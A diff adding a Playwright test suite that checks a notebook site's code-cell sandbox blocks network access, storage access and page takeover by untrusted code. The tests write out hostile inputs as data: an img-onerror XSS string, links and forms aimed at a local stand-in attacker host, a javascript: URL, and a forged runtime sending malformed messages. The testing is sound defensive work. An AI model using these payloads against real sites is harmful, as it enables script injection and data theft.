@@ -1,0 +1,269 @@
+/**
+ * Foreign code in cells reaches neither the site, nor the network, nor the page. A machine of someone else's
+ * listens on loopback and must hear nothing; after every hostile cell the page answers and a fresh cell runs.
+ */
+import type { Page } from '@playwright/test';
+import { startAttacker, type Attacker } from '../long/attacker.ts';
+import {
+  endless,
+  forgedBundles,
+  hostileOutputs,
+  hugeOutputs,
+  probeCell,
+  reachCell,
+  violent,
+  waysOut,
+} from '../long/hostile.ts';
+import { cell, chapterPath, edit, expect, expectState, outputs, run, test as base } from './site.ts';
+
+const test = base.extend<{ attacker: Attacker }>({
+  attacker: async ({}, use) => {
+    const attacker = await startAttacker();
+    await use(attacker);
+    await attacker.close();
+  },
+  // Refusals inside the sandbox are written to the page's console; only what the page itself throws counts.
+  complaints: async ({ page }, use) => {
+    const complaints: string[] = [];
+    page.on('pageerror', (error) => complaints.push(String(error)));
+    await use(complaints);
+    expect(complaints).toEqual([]);
+  },
+});
+
+test.use({ serviceWorkers: 'block' });
+
+/** Runs a source in one cell until it is done, and returns what the cell shows as text. */
+async function show(page: Page, source: string): Promise<string> {
+  await edit(page, 'equal', source);
+  await run(page, 'equal');
+  await expect(cell(page, 'equal')).toHaveAttribute('data-state', /^(fresh|failed)$/, { timeout: 20_000 });
+  return (await outputs(page, 'equal').textContent()) ?? '';
+}
+
+/** The page paints within two seconds, and is itself. */
+async function expectAwake(page: Page, name: string): Promise<void> {
+  const started = Date.now();
+  const injected = await page.evaluate(async () => {
+    await new Promise(requestAnimationFrame);
+    return [...document.querySelectorAll('.injected')].map(({ outerHTML }) => outerHTML);
+  });
+  expect(Date.now() - started, `${name}: milliseconds to paint`).toBeLessThan(2_000);
+  expect(injected, `${name}: injected elements`).toEqual([]);
+  expect(await page.title(), name).not.toContain('stolen');
+}
+
+async function expectFreshCell(page: Page): Promise<void> {
+  expect(await show(page, "'a fresh cell'")).toBe('a fresh cell');
+}
+
+const refused = /^(refused|nothing)$/;
+
+test('nothing that a cell can try gets out: neither network, nor storage, nor page', async ({
+  page,
+  site,
+  attacker,
+}) => {
+  await page.goto(site.url + chapterPath);
+  await show(page, '1');
+  await page.context().addCookies([{ name: 'secret', value: 'cookie', url: site.url }]);
+  const before = site.log.length;
+  const ways = waysOut({ attacker, site: site.url });
+  const outcome = JSON.parse(await show(page, probeCell(ways))) as Record<string, string>;
+  expect(Object.keys(outcome).sort()).toEqual(Object.keys(ways).sort());
+  for (const [way, what] of Object.entries(outcome)) expect(what, way).toMatch(refused);
+  expect(attacker.heard).toEqual([]);
+  expect(site.log.slice(before).map(({ path }) => path)).toEqual([]);
+  expect(await show(page, `import('${attacker.url}module.js')`)).toContain('they run without a network');
+  await expectFreshCell(page);
+  // The listener would have heard.
+  await fetch(`${attacker.url}control`);
+  expect(attacker.heard).toContain('GET /control');
+});
+
+test('no function that reaches out is within a cell’s reach, by whatever path', async ({ page, site }) => {
+  await page.goto(site.url + chapterPath);
+  const { looked, found } = JSON.parse(await show(page, reachCell));
+  expect(looked).toBeGreaterThan(1_000);
+  expect(found).toEqual([]);
+});
+
+test('cells that end violently leave the page awake and the next cell running', async ({ page, site }) => {
+  await page.goto(site.url + chapterPath);
+  for (const [name, source] of Object.entries(violent)) {
+    const text = await test.step(name, () => show(page, source));
+    if (source.includes('survived')) expect(text, name).toContain('survived');
+    await expectAwake(page, name);
+  }
+  await expectFreshCell(page);
+});
+
+test('cells that never end are stopped, and the next one runs', async ({ page, site }) => {
+  await page.goto(site.url + chapterPath);
+  await show(page, '1');
+  for (const [name, source] of Object.entries(endless)) {
+    await edit(page, 'equal', source);
+    await run(page, 'equal');
+    await test.step(name, () => expectState(page, 'equal', 'running'));
+    await expectAwake(page, name);
+    await run(page, 'equal');
+    await expectState(page, 'equal', 'stale');
+    await expectFreshCell(page);
+  }
+});
+
+test('values that forge a format add no markup to the page and do not stop it', async ({ page, site }) => {
+  await page.goto(site.url + chapterPath);
+  for (const [name, source] of Object.entries(forgedBundles)) {
+    await test.step(name, () => show(page, source));
+    await expectAwake(page, name);
+  }
+  await expectFreshCell(page);
+});
+
+test('markup of a cell runs nothing, loads nothing, and stays in its box', async ({
+  page,
+  site,
+  attacker,
+}) => {
+  await page.goto(site.url + chapterPath);
+  await show(page, '1');
+  const before = site.log.length;
+  const address = page.url();
+  for (const [name, source] of Object.entries(hostileOutputs({ attacker, site: site.url }))) {
+    await test.step(name, () => show(page, source));
+    await page.waitForTimeout(250);
+    expect(attacker.heard, name).toEqual([]);
+    expect(await page.locator('h1').first().isVisible(), `${name}: the page is seen`).toBe(true);
+    await expectAwake(page, name);
+  }
+  await expectFreshCell(page);
+  expect(page.url()).toBe(address);
+  const asked = site.log.slice(before).map(({ path }) => path);
+  expect(asked.filter((path) => !path.startsWith('/_astro/'))).toEqual([]);
+});
+
+test('links and forms in a cell’s HTML lead nowhere when they are pressed', async ({
+  page,
+  site,
+  attacker,
+}) => {
+  await page.goto(site.url + chapterPath);
+  const address = page.url();
+  await show(
+    page,
+    `html\`<a id=top target=_top href="${attacker.url}top">top</a> <a id=blank target=_blank href="${attacker.url}blank">blank</a>
+<a id=self href="${attacker.url}self" ping="${attacker.url}ping">self</a> <a id=script href="javascript:top.document.title='stolen'">script</a>
+<form target=_top action="${attacker.url}form"><button id=form>form</button></form><button id=formaction form=f formaction="${attacker.url}formaction" formtarget=_blank>x</button><form id=f></form>\``,
+  );
+  const frame = outputs(page, 'equal').frameLocator('iframe');
+  for (const id of ['top', 'blank', 'script', 'form', 'formaction', 'self'])
+    await frame.locator(`#${id}`).click({ timeout: 2_000, noWaitAfter: true });
+  await page.waitForTimeout(300);
+  expect(attacker.heard).toEqual([]);
+  expect(page.url()).toBe(address);
+  expect(page.context().pages()).toHaveLength(1);
+  await expectAwake(page, 'links');
+  await expectFreshCell(page);
+});
+
+test('huge outputs stay in their box and leave the page awake', async ({ page, site }) => {
+  await page.goto(site.url + chapterPath);
+  await show(page, '1');
+  const width = await page.evaluate(() => document.documentElement.scrollWidth);
+  for (const [name, source] of Object.entries(hugeOutputs)) {
+    await test.step(name, () => show(page, source));
+    const escaped = await page.evaluate(() => {
+      const box = document.querySelector('[data-cell-id="equal"] [data-outputs]')!;
+      const { bottom } = box.getBoundingClientRect();
+      return { width: document.documentElement.scrollWidth, height: Math.round(box.clientHeight), bottom };
+    });
+    expect(escaped.width, `${name}: width of the page`).toBe(width);
+    expect(escaped.height, `${name}: height of the output`).toBeLessThan(40_000);
+    await expectAwake(page, name);
+  }
+  await expectFreshCell(page);
+});
+
+/** What a runtime sends that a cell has taken over: raw messages, past every cap and check of the runtime. */
+const hostileRuntime = `
+postMessage({ type: 'kernel_info_reply', protocol: 1 })
+onmessage = ({ data: { type, id } }) => {
+  if (type !== 'execute_request') return
+  const attack = '"><img src=x onerror="document.title=\\'stolen\\'"><b class=injected>injected</b>'
+  const wild = [null, 7, 'idle', [], { parent: id }, { parent: id, type: '__proto__' }, { parent: id, type: 'toString' },
+    { type: 'died ' }, { parent: id, type: 'stream', cell: 'equal', name: attack, text: attack },
+    { parent: id, type: 'stream', cell: 'equal', name: 'stdout', text: { length: 1e9 } },
+    { parent: id, type: 'stream', cell: 'no such cell', name: 'stdout', text: attack },
+    { parent: 'run-0', type: 'stream', cell: 'equal', name: 'stdout', text: 'FORGED' },
+    { parent: id + '0', type: 'execute_result', cell: 'equal', data: { 'text/plain': 'FORGED' } },
+    { parent: id, type: 'execute_result', cell: 'equal', data: null },
+    { parent: id, type: 'execute_result', cell: 'equal', data: { 'text/plain': 7 } },
+    { parent: id, type: 'error', cell: 'equal', error: { name: attack, message: attack, frame: { cell: attack, line: attack, column: attack } } },
+    { parent: id, type: 'error', cell: 'equal', error: null },
+    { parent: id, type: 'execute_reply', cell: 'no such cell', status: 'ok', duration: 1, kept: false, mutated: [] },
+    { parent: id, type: 'execute_reply', cell: 'equal', status: attack, duration: attack, kept: 7, mutated: attack },
+    { parent: id, type: 'execute_result', cell: 'equal', data: { 'text/plain': 'p', 'application/vnd.separable.progress+json': { value: attack, total: attack } } },
+    { parent: id, type: 'execute_result', cell: 'equal', data: { 'text/plain': 't', 'application/vnd.separable.tensor+json': { shape: [1, 1, 4e9], data: [1], min: 0, max: 0, mean: 0 } } },
+  ]
+  for (const message of wild) postMessage(message)
+  postMessage({ parent: id, type: 'execute_result', cell: 'equal', data: { 'text/plain': 'seen' } })
+  postMessage({ parent: id, type: 'execute_reply', cell: 'equal', status: 'ok', duration: 1, kept: false, mutated: [] })
+  postMessage({ parent: id, type: 'status', execution_state: 'idle' })
+}`;
+
+async function replaceRuntime(page: Page, text: string): Promise<void> {
+  await page.route(/\/_astro\/runtime\.[^/]*\.js$/, (route) =>
+    route.fulfill({
+      contentType: 'text/javascript',
+      body: `const text = ${JSON.stringify(text)};export { text as runtime };`,
+    }),
+  );
+}
+
+test('a runtime that a cell has taken over can show text in the cell that runs, and nothing else', async ({
+  page,
+  site,
+}) => {
+  await replaceRuntime(page, hostileRuntime);
+  await page.goto(site.url + chapterPath);
+  const others = () => page.locator('.cell:not([data-cell-id="equal"]) [data-outputs]').allInnerTexts();
+  const before = await others();
+  const text = await show(page, '1');
+  expect(text).toContain('seen');
+  expect(text).not.toContain('FORGED');
+  await expectAwake(page, 'hostile runtime');
+  expect(await others()).toEqual(before);
+});
+
+test('the frames alone hold a bare worker: no network, no storage, no page', async ({
+  page,
+  site,
+  attacker,
+}) => {
+  // The ways out are tried by the worker's own script, with nothing taken away from it beforehand.
+  const ways = waysOut({ attacker, site: site.url });
+  await replaceRuntime(
+    page,
+    `const console = { log: (text) => (said = text) }
+let said
+for (const name of ['error', 'unhandledrejection']) addEventListener(name, (event) => event.preventDefault())
+postMessage({ type: 'kernel_info_reply', protocol: 1 })
+onmessage = async ({ data: { type, id } }) => {
+  if (type !== 'execute_request') return
+  await (async () => { ${probeCell(ways)} })()
+  postMessage({ parent: id, type: 'execute_result', cell: 'equal', data: { 'text/plain': said } })
+  postMessage({ parent: id, type: 'execute_reply', cell: 'equal', status: 'ok', duration: 1, kept: false, mutated: [] })
+  postMessage({ parent: id, type: 'status', execution_state: 'idle' })
+}`,
+  );
+  await page.goto(site.url + chapterPath);
+  const outcome = JSON.parse(await show(page, '1')) as Record<string, string>;
+  expect(Object.keys(outcome).sort()).toEqual(Object.keys(ways).sort());
+  // A bare worker can make objects that come to nothing, and run modules and scripts of its own making.
+  const harmless = ['BroadcastChannel', 'push by notification', 'import of a blob'];
+  for (const [way, what] of Object.entries(outcome))
+    if (!harmless.includes(way)) expect.soft(what, way).toMatch(refused);
+  expect(attacker.heard).toEqual([]);
+  expect(site.log.filter(({ path }) => /stolen|service-worker/.test(path))).toEqual([]);
+});
